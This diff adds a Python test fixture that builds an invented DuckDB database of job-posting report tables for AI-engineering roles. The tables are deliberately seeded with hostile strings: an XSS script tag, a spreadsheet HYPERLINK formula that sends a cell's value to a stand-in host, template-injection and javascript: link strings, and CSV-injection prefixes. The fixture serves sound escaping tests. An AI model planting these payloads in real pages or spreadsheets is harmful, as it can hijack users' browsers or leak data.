@@ -1,0 +1,238 @@
+"""A small invented work database with the published schemas, hostile strings included.
+
+Here: the tables that the candidate and the report site read, in the shape that dbt builds them.
+Not here: the synthetic corpus or a real build; the pipeline tests have those.
+"""
+
+from collections.abc import Iterable, Sequence
+from datetime import UTC, date, datetime
+from math import sqrt
+from pathlib import Path
+
+import duckdb
+
+from orchestration.publishing import BuildFacts, CheckResult
+
+SCRIPT = "<script>alert(1)</script>"
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+TEMPLATE = "{{ 7*7 }}{% raw %}"
+QUOTES = """O'Brien & "Sons" `rm` *bold* [x](javascript:alert(1)) <!-- -->"""
+RTL = "\u202eשלום עולם‏ – مهندس"
+HOSTILE = (SCRIPT, FORMULA, TEMPLATE, QUOTES, RTL, "@SUM(1)", "+1", "-1 Engineer", "\tTab")
+
+SOURCES = {
+    "harbour": ("Search for “AI engineer” in Lisbon, Oslo and Toronto, four weeks to the last snapshot", 757),
+    "quay": ("All postings of the board's engineering category in Lisbon", 61),
+}
+
+ROLE_TYPES = (("ai-first", 0.62), ("ai-support", 0.24), ("ml-first", 0.09), ("other", 0.05))
+LEVELS = (("mid", 0.31), ("senior", 0.38), ("staff", 0.12), ("entry", 0.06), ("unstated", 0.13))
+WORK_MODES = (("remote", 0.29), ("hybrid", 0.41), ("onsite", 0.22), ("unstated", 0.08))
+SKILLS = {
+    "languages": (("Python", 0.81), ("TypeScript", 0.34), ("SQL", 0.33), ("Go", 0.14), ("Rust", 0.05)),
+    "genai": (("RAG", 0.41), ("Agents", 0.4), ("Prompt engineering", 0.27), ("Fine-tuning", 0.22), (SCRIPT, 0.02)),
+    "cloud": (("AWS", 0.45), ("Azure", 0.29), ("GCP", 0.27)),
+    "data": (("PostgreSQL", 0.17), ("Spark", 0.12), ("Kafka", 0.08), ("Airflow", 0.07), (TEMPLATE, 0.01)),
+    "ml": (("PyTorch", 0.31), ("scikit-learn", 0.12), ("Recommender systems", 0.04)),
+    "ops": (("Kubernetes", 0.33), ("Docker", 0.31), ("Terraform", 0.16), ("CI/CD", 0.3)),
+}
+COMPANIES = (
+    ("Driftwood Analytics", 0.06),
+    ("The Very Long Name Holding Company for Applied Artificial Intelligence GmbH & Co. KG", 0.04),
+    (SCRIPT, 0.03),
+    (FORMULA, 0.03),
+    (QUOTES, 0.02),
+    (RTL, 0.02),
+    ("@SUM(1)", 0.01),
+    ("+1", 0.01),
+    ("\tTab", 0.01),
+)
+TITLES = (
+    ("AI Engineer", "ai engineer", 0.22),
+    ("Senior AI Engineer", "ai engineer", 0.13),
+    ("Machine Learning Engineer", "ml engineer", 0.09),
+    ("Forward Deployed Engineer, Generative AI Platform (Contract to hire)", "forward deployed engineer", 0.03),
+    ("-1 Engineer", "other", 0.01),
+)
+
+SHARE = "n bigint, population_n bigint, share double, share_low double, share_high double"
+KEYS = "source varchar, counting_policy varchar"
+TABLES = {
+    "reports.rpt_overview": "source varchar, frame varchar, snapshot_count bigint, first_snapshot_on date,"
+    " last_snapshot_on date, posting_count bigint, text_posting_count bigint, analysed_posting_count bigint,"
+    " card_only_count bigint, other_language_count bigint, opening_count bigint,"
+    " company_count bigint, annotation_count bigint, reject_count bigint, is_synthetic boolean",
+    "reports.rpt_coverage": "source varchar, snapshot_on date, document_count bigint, record_count bigint,"
+    " observation_count bigint, repeat_count bigint, conflict_count bigint, annotation_count bigint,"
+    " reject_count bigint, posting_count bigint, text_posting_count bigint",
+    "reports.rpt_role_types": f"{KEYS}, role_type varchar, {SHARE}",
+    "reports.rpt_skill_demand": f"{KEYS}, skill_id varchar, skill_name varchar, category varchar, kind varchar,"
+    " n bigint, required_n bigint, preferred_n bigint, population_n bigint, share double, share_low double,"
+    " share_high double, rank_in_category bigint",
+    "reports.rpt_companies": f"{KEYS}, company_name varchar, {SHARE}, rank bigint",
+    "reports.rpt_titles": f"{KEYS}, title varchar, title_family varchar, {SHARE}, rank bigint",
+    "reports.rpt_title_families": f"{KEYS}, title_family varchar, {SHARE}, ai_first_share double",
+    "reports.rpt_pay": "source varchar, level varchar, role_type varchar, pay_posting_count bigint,"
+    " population_n bigint, pay_min_median_usd double, pay_max_median_usd double",
+    "reports.rpt_work_modes": f"{KEYS}, work_mode varchar, {SHARE}",
+    "reports.rpt_levels": f"{KEYS}, level varchar, {SHARE}",
+    "reports.rpt_rejects": "source varchar, snapshot_on date, rule_id varchar, reject_count bigint,"
+    " example_uri varchar, example_reason varchar",
+    "marts.dim_skill": "skill_id varchar, skill_name varchar, category varchar, kind varchar",
+    "marts.fct_posting": "posting_id varchar, source varchar, title varchar, has_text boolean, salary_min double,"
+    " posted_on date, read_at timestamp",
+    "meta.posting_mention": "version_id varchar, posting_id varchar, kind varchar, canonical_id varchar,"
+    " matched_text varchar, start_offset bigint, end_offset bigint, section varchar, strength varchar, rule_id varchar",
+}
+
+# Enough rows for several row groups and threads, in an order that is not the key's.
+EXTRA_FACTS = """
+insert into marts.fct_posting
+select 'extra:' || hash(i), 'harbour', 'Engineer', true, i * 1.5, date '2026-02-27', timestamp '2026-02-27 08:30:00'
+from range(?) as r (i)
+"""
+
+Row = tuple[object, ...]
+
+
+def build_facts(build_id: str = "b-001", *, is_synthetic: bool = True, minute: int = 0) -> BuildFacts:
+    return BuildFacts(
+        build_id=build_id,
+        fingerprint="f1e2d3c4b5a697887766554433221100",
+        code_version="0.1.0",
+        built_at=datetime(2026, 3, 1, 12, minute, tzinfo=UTC),
+        is_synthetic=is_synthetic,
+        inputs=[
+            {
+                "input_id": f"{source}-2026-02-27",
+                "source": source,
+                "snapshot_on": date(2026, 2, 27),
+                "uri": f"{source}/2026-02-27",
+                "frame": frame,
+                "document_count": count,
+                "sha256": "ab" * 32,
+            }
+            for source, (frame, count) in SOURCES.items()
+        ],
+        checks=[
+            CheckResult("fct_posting", "posting_ids_are_unique", "ERROR", True, "One row per posting.", 0),
+            CheckResult(
+                "raw_documents", "documents_are_as_many_as_before", "WARN", False, SCRIPT, 2, [{"uri": SCRIPT}]
+            ),
+        ],
+        dagster_run_id=f"run-of-{build_id}",
+    )
+
+
+def write_work_database(path: Path, *, empty: bool = False, extra_facts: int = 0) -> Path:
+    """Write the invented work database; with `empty`, every table has its columns and no rows."""
+    rows = {} if empty else _rows()
+    with duckdb.connect(str(path)) as connection:
+        for schema in ("marts", "reports", "meta", "staging"):
+            connection.execute(f"create schema {schema}")
+        for name, columns in TABLES.items():
+            connection.execute(f"create table {name} ({columns})")
+            _fill(connection, name, rows.get(name, ()))
+            connection.execute(f"comment on table {name} is 'One row per member of {name}; it''s invented.'")
+        connection.execute(
+            "comment on column reports.rpt_overview.posting_count is 'Postings, \"distinct\" ids; it''s n.'"
+        )
+        # A view under the name of its database, as dbt writes them; it becomes a table where it is published.
+        database = path.stem
+        connection.execute(
+            f'create view marts.dim_source as select source, frame from "{database}".reports.rpt_overview'
+        )
+        connection.execute("comment on view marts.dim_source is 'One row per source.'")
+        connection.execute(EXTRA_FACTS, [extra_facts])
+        connection.execute("create table staging.stg_hidden as select 1 as a")
+    return path
+
+
+def wilson(n: int, population: int, z: float = 1.959964) -> tuple[float, float, float]:
+    share = n / population
+    middle = (share + z * z / (2 * population)) / (1 + z * z / population)
+    half = z / (1 + z * z / population) * sqrt(share * (1 - share) / population + z * z / (4 * population**2))
+    return share, max(0.0, middle - half), min(1.0, middle + half)
+
+
+def _fill(connection: duckdb.DuckDBPyConnection, name: str, rows: Iterable[Row]) -> None:
+    for row in rows:
+        connection.execute(f"insert into {name} values ({', '.join('?' for _ in row)})", list(row))
+
+
+def _shares(members: Sequence[tuple[str, float]], *, ranked: bool = False) -> list[Row]:
+    rows: list[Row] = []
+    for source, (_, population) in SOURCES.items():
+        for rank, (member, share) in enumerate(members, start=1):
+            n = round(population * share)
+            rows.append(
+                (source, "postings", member, n, population, *wilson(n, population), *((rank,) if ranked else ()))
+            )
+    return rows
+
+
+def _skills() -> list[Row]:
+    rows: list[Row] = []
+    for source, (_, population) in SOURCES.items():
+        for category, skills in SKILLS.items():
+            for rank, (name, share) in enumerate(skills, start=1):
+                n = round(population * share)
+                counts = (n, n // 2, n // 5, population)
+                key = (f"{category}-{rank}", name, category, "technology")
+                rows.append((source, "postings", *key, *counts, *wilson(n, population), rank))
+    return rows
+
+
+def _titles() -> list[Row]:
+    rows: list[Row] = []
+    for source, (_, population) in SOURCES.items():
+        for rank, (title, family, share) in enumerate(TITLES, start=1):
+            n = round(population * share)
+            rows.append((source, "postings", title, family, n, population, *wilson(n, population), rank))
+    return rows
+
+
+def _families() -> list[Row]:
+    families = (("ai engineer", 0.44), ("ml engineer", 0.2), ("software engineer", 0.18), ("other", 0.18))
+    return [(*row, 0.5) for row in _shares(families)]
+
+
+def _overview() -> list[Row]:
+    first, last = date(2026, 2, 4), date(2026, 2, 27)
+    return [
+        (source, frame, 2, first, last, n + 120, n, n - 9, 120, 9, n - 40, n // 3, 12, 3, True)
+        for source, (frame, n) in SOURCES.items()
+    ]
+
+
+def _coverage() -> list[Row]:
+    days = (date(2026, 2, 4), date(2026, 2, 27))
+    return [(source, day, 40, 895, 880, 14, 2, 12, 3, n + 120, n) for source, (_, n) in SOURCES.items() for day in days]
+
+
+def _pay() -> list[Row]:
+    bands = (("mid", 128_000.0, 176_500.0), ("senior", 161_000.0, 219_000.0), ("staff", 195_000.0, 262_000.0))
+    return [("harbour", level, "ai-first", 42, 190, low, high) for level, low, high in bands]
+
+
+def _rows() -> dict[str, list[Row]]:
+    day, moment = date(2026, 2, 27), datetime(2026, 2, 27, 8, 30)
+    reject = "line 3: a mapping was expected; mend the file and build again"
+    facts: list[Row] = [(f"harbour:{i}", "harbour", HOSTILE[i % 9], i % 7 > 0, None, day, moment) for i in range(40)]
+    mention: Row = ("v1", "harbour:1", "skill", "languages-1", SCRIPT, 120, 126, "requirements", "required", "exact")
+    return {
+        "reports.rpt_overview": _overview(),
+        "reports.rpt_coverage": _coverage(),
+        "reports.rpt_role_types": _shares(ROLE_TYPES),
+        "reports.rpt_skill_demand": _skills(),
+        "reports.rpt_companies": _shares(COMPANIES, ranked=True),
+        "reports.rpt_titles": _titles(),
+        "reports.rpt_title_families": _families(),
+        "reports.rpt_pay": _pay(),
+        "reports.rpt_work_modes": _shares(WORK_MODES),
+        "reports.rpt_levels": _shares(LEVELS),
+        "reports.rpt_rejects": [("harbour", day, "not_yaml", 3, f"postings/{SCRIPT}.yaml", reject)],
+        "marts.dim_skill": [(f"s-{i}", text, "hostile", "technology") for i, text in enumerate(HOSTILE)],
+        "marts.fct_posting": facts,
+        "meta.posting_mention": [mention],
+    }
